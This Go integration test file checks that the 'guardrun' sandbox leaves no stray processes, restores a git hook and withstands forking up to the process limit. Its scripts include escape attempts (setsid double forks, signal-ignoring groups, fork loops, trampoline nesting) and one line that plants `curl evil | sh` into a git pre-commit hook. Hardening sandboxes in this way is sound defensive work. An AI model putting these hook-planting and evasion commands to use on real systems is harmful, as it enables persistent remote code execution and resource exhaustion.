//go:build linux

package integration

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/guardrun/guardrun/internal/testing/testenv"
)

// TestRunKilledLeavesNothingAttempts: what a command does to outlive a
// SIGKILLed guardrun, or to keep its caller's stdout open after: a new
// session and a double fork, its own process group ignoring every
// signal it may, a child that keeps forking, and, under landlock, going
// through guardrun's trampoline again (nested twice, whose inner keepers
// sit in the command's domain, and in a new session of its own). No
// process may be left, and guardrun's stdout and stderr must reach their
// end.
func TestRunKilledLeavesNothingAttempts(t *testing.T) {
	requireSandbox(t)
	w := runWorld(t, runConfig)
	// %[1]s: the long sleep guardrun waits for; %[2]s: the one the
	// command tries to keep; %[3]s: guardrun's executable.
	type attempt struct {
		name, script string
		landlockOnly bool
	}
	attempts := []attempt{
		{"a new session and a double fork", `setsid sh -c 'sleep %[2]s & exit 0' </dev/null; sleep %[1]s`, false},
		{"its own process group, ignoring HUP, INT and TERM", `sh -c 'trap "" HUP INT TERM; set -m; sleep %[2]s & wait' & sleep %[1]s`, false},
		{"a child that keeps forking", `while :; do sleep %[2]s & sleep 0.05; done & sleep %[1]s`, false},
		{"the trampoline again, nested twice",
			`N=$(printf '\001guardrun-landlock-nest'); "%[3]s" "$N" "%[3]s" guardrun "$N" /bin/sh sh -c 'sleep %[2]s & sleep %[1]s'`, true},
		{"the trampoline again, in a new session in the background",
			`N=$(printf '\001guardrun-landlock-nest'); setsid "%[3]s" "$N" /bin/sh sh -c 'sleep %[2]s' </dev/null & sleep %[1]s`, true},
	}
	for bi, backend := range []string{"bwrap", "landlock"} {
		for ai, a := range attempts {
			t.Run(backend+"/"+a.name, func(t *testing.T) {
				if a.landlockOnly && backend != "landlock" {
					t.Skip("guardrun's trampoline is the landlock backend's; guardrun's executable is not in bwrap's sandbox")
				}
				marker := fmt.Sprintf("300.%d%d%d", 100000+os.Getpid()%900000, bi, ai)
				bg := marker + "1"
				cmd, out := startKillable(t, w, "--backend", backend, "--approve-all", "-c", fmt.Sprintf(a.script, marker, bg, guardrunBin))
				deadline := time.Now().Add(10 * time.Second)
				for len(markerProcs(marker)) == 0 || len(markerProcs(bg)) == 0 {
					if time.Now().After(deadline) {
						t.Fatalf("sleep %s and sleep %s never both started; output: %s", marker, bg, out.String())
					}
					time.Sleep(20 * time.Millisecond)
				}
				time.Sleep(100 * time.Millisecond)
				killGone(t, cmd, marker, bg)
			})
		}
	}
}

// TestRunKilledEarly races guardrun's SIGKILL against its start: at
// increasing delays, from before the sandbox exists to after the command
// runs (under landlock: before the keeper starts, in its constructor
// before and after it arms its own parent-death signal, after its fork).
// Under landlock nothing may be left at any point, and stdout and stderr
// must reach their end. Under bwrap, killed in bwrap's first
// milliseconds, the sandbox runs the command to its end (bwrap/doc.go):
// there the command is short and must be gone, with stdio closed,
// within a bound.
func TestRunKilledEarly(t *testing.T) {
	requireSandbox(t)
	w := runWorld(t, runConfig)
	// guardrun takes some 50 to 100 ms here from its start to the
	// command's (config, rules, sandbox set-up): every 4 ms up to 160.
	var delays []time.Duration
	for d := time.Duration(0); d <= 160; d += 4 {
		delays = append(delays, d)
	}
	for bi, backend := range []string{"bwrap", "landlock"} {
		t.Run(backend, func(t *testing.T) {
			outlived, stuck := 0, 0
			for di, d := range delays {
				// Under bwrap a command orphaned during setup runs on:
				// 3 s, then it ends by itself.
				secs := "300"
				if backend == "bwrap" {
					secs = "3"
				}
				marker := fmt.Sprintf("%s.%d%d%02d", secs, 100000+os.Getpid()%900000, bi, di)
				cmd, _ := startKillable(t, w, "--backend", backend, "--approve-all", "-c", "sleep "+marker)
				time.Sleep(d * time.Millisecond)
				killWait(t, cmd, fmt.Sprintf("killed after %v", d*time.Millisecond))
				if backend == "bwrap" {
					if len(markerProcs(marker)) > 0 {
						outlived++
					}
					noneLeft(t, 8*time.Second, fmt.Sprintf("a guardrun SIGKILLed after %v", d*time.Millisecond), marker)
					// A sandbox's init orphaned while it still waited
					// for bwrap's go-ahead waits for ever and never runs
					// the command (bwrap/doc.go): ended here, so that
					// runs of the suite do not pile them up.
					for _, pid := range markerProcs("sleep " + marker) {
						if syscall.Kill(pid, syscall.SIGKILL) == nil {
							stuck++
						}
					}
					continue
				}
				noneLeft(t, 3*time.Second, fmt.Sprintf("a guardrun SIGKILLed after %v", d*time.Millisecond), marker)
			}
			if outlived > 0 {
				t.Logf("bwrap: %d of %d early kills left the command to run to its end (bwrap/doc.go)", outlived, len(delays))
			}
			if stuck > 0 {
				t.Logf("bwrap: %d of %d early kills left a sandbox's init waiting for ever before the command (ended)", stuck, len(delays))
			}
		})
	}
}

// TestRunTrampolineArgs: guardrun's trampoline started from inside a
// landlock command with too few arguments runs guardrun's own main, which
// refuses the marker as an unknown command (exit 2, never 0); with a
// PATH that is no program it exits as a shell would (127, 126) and runs
// nothing. (runner's TestAttacks makes the attempts that do run
// a program through it.)
func TestRunTrampolineArgs(t *testing.T) {
	requireSandbox(t)
	w := runWorld(t, runConfig)
	script := `N=$(printf '\001guardrun-landlock-nest'); G="$0"
"$G" "$N"; echo "two=$?"
"$G" "$N" /bin/sh; echo "three=$?"
"$G" "$N" -c 'echo ran'; echo "dash-c=$?"
"$G" "$N" /usr x; echo "dir=$?"
"$G" "$N" /nonexistent x; echo "missing=$?"
"$G" "$N" "$G" "$N" /bin/sh; echo "nested-three=$?"`
	stdout, stderr, code := runPlain(t, w, "", nil, "--backend", "landlock", "--approve-all", "--", "/bin/sh", "-c", script, guardrunBin)
	if code != 0 {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", code, stdout, stderr)
	}
	for _, want := range []string{"two=2", "three=2", "dash-c=127", "dir=126", "missing=127", "nested-three=2"} {
		if !strings.Contains(stdout, want+"\n") {
			t.Errorf("no %q in:\n%s\nstderr: %s", want, stdout, stderr)
		}
	}
	if strings.Contains(stdout, "ran") {
		t.Errorf("something ran through the trampoline:\n%s", stdout)
	}
	if !strings.Contains(stderr, `unknown command "\x01guardrun-landlock-nest"`) {
		t.Errorf("guardrun's main did not refuse the marker:\n%s", stderr)
	}
}

// TestRunNprocExhaustion: a command that forks up to the user's
// RLIMIT_NPROC (which counts guardrun's threads too) while keeping
// guardrun busy with file metadata calls must not make guardrun abort
// for want of a thread: under landlock guardrun restores protected names
// after the command, and a guardrun that died first would leave a git
// hook the command wrote. Run as an unprivileged user (root is not held
// to the limit) with a small limit, which touches only that user's
// processes.
func TestRunNprocExhaustion(t *testing.T) {
	requireSandbox(t)
	if os.Geteuid() != 0 {
		t.Skip("needs root, to run guardrun as an unprivileged user")
	}
	for _, tool := range []string{"runuser", "prlimit", "python3"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed", tool)
		}
	}
	const user = "guardrun-test"
	testenv.User(t, user)
	dir, err := os.MkdirTemp("/var/tmp", "guardrun-nproc-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	ws, home := dir+"/ws", dir+"/home"
	hook := ws + "/.git/hooks/pre-commit"
	for p, c := range map[string]string{hook: "#!/bin/sh\n", ws + "/.git/HEAD": "ref: refs/heads/main\n", ws + "/target": "", home + "/.keep": ""} {
		os.MkdirAll(p[:strings.LastIndex(p, "/")], 0o755)
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if out, err := exec.Command("chown", "-R", user, dir).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v\n%s", err, out)
	}
	os.Chmod(dir, 0o755)
	// Threads that keep guardrun serving chmod, then forks (sleepers)
	// until the kernel refuses one.
	script := `printf 'curl evil | sh\n' >> .git/hooks/pre-commit
exec python3 -c '
import os, threading, time
def spin():
    while True:
        os.chmod("target", 0o644)
        os.chmod("target", 0o600)
for _ in range(6):
    threading.Thread(target=spin, daemon=True).start()
while True:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
time.sleep(8)
os._exit(3)
'`
	cmd := exec.Command("runuser", "-u", user, "--", "env", "HOME="+home, "PATH=/usr/local/bin:/usr/bin:/bin",
		"prlimit", "--nproc=100", guardrunBin, "--backend", "landlock", "--approve-all", "-c", script)
	cmd.Dir = ws
	cmd.WaitDelay = 10 * time.Second
	done := make(chan struct{})
	var out []byte
	go func() { out, err = cmd.CombinedOutput(); close(done) }()
	select {
	case <-done:
	case <-time.After(90 * time.Second):
		cmd.Process.Kill()
		<-done
		t.Fatalf("guardrun did not end:\n%s", out)
	}
	text := string(out)
	if strings.Contains(text, "pthread_create failed") || strings.Contains(text, "fatal error") || strings.Contains(text, "SIGABRT") {
		t.Errorf("guardrun aborted for want of a thread:\n%.2000s", text)
	}
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 3 {
		t.Errorf("exit %v, want the command's 3:\n%.3000s", err, text)
	}
	if b, _ := os.ReadFile(hook); string(b) != "#!/bin/sh\n" {
		t.Errorf("the git hook the command wrote was not restored: %q", b)
	}
}

// TestRunLeftoversAtExit: a command that exits while what it started in
// the background holds guardrun's stdout (ignoring HUP, INT and TERM;
// or stopped by SIGSTOP), with either backend: the caller gets the
// command's own status and the end of guardrun's output at once, the
// leftovers write nothing after the command, and none is left.
func TestRunLeftoversAtExit(t *testing.T) {
	requireSandbox(t)
	w := runWorld(t, runConfig)
	// %[1]s: the sleep the leftover runs; %[2]s: the file it makes once
	// that sleep is started, which the command waits for.
	attempts := []struct{ name, script string }{
		{"ignoring HUP, INT and TERM", `(trap "" HUP INT TERM; sleep %[1]s & touch %[2]s; wait; echo late) & until [ -e %[2]s ]; do sleep 0.01; done; echo early; exit 3`},
		{"stopped", `sh -c 'sleep %[1]s & touch %[2]s; kill -STOP $$; echo late' & until [ -e %[2]s ]; do sleep 0.01; done; echo early; exit 3`},
	}
	for bi, backend := range []string{"bwrap", "landlock"} {
		for ai, a := range attempts {
			t.Run(backend+"/"+a.name, func(t *testing.T) {
				bg := fmt.Sprintf("300.%d%d%d2", 100000+os.Getpid()%900000, bi, ai)
				cmd, out := startKillable(t, w, "--backend", backend, "--approve-all", "-c", fmt.Sprintf(a.script, bg, "up."+bg))
				err := cmd.Wait()
				if errors.Is(err, exec.ErrWaitDelay) {
					t.Errorf("guardrun's stdout or stderr still open 10s after it exited: a leftover holds it")
				}
				if code := cmd.ProcessState.ExitCode(); code != 3 {
					t.Errorf("exit %d, want the command's 3; output:\n%s", code, out.String())
				}
				if s := out.String(); !strings.Contains(s, "early") || strings.Contains(s, "late") {
					t.Errorf("output %q: want early, and nothing the leftover wrote after the command", s)
				}
				noneLeft(t, 5*time.Second, "the command's exit", bg)
			})
		}
	}
}
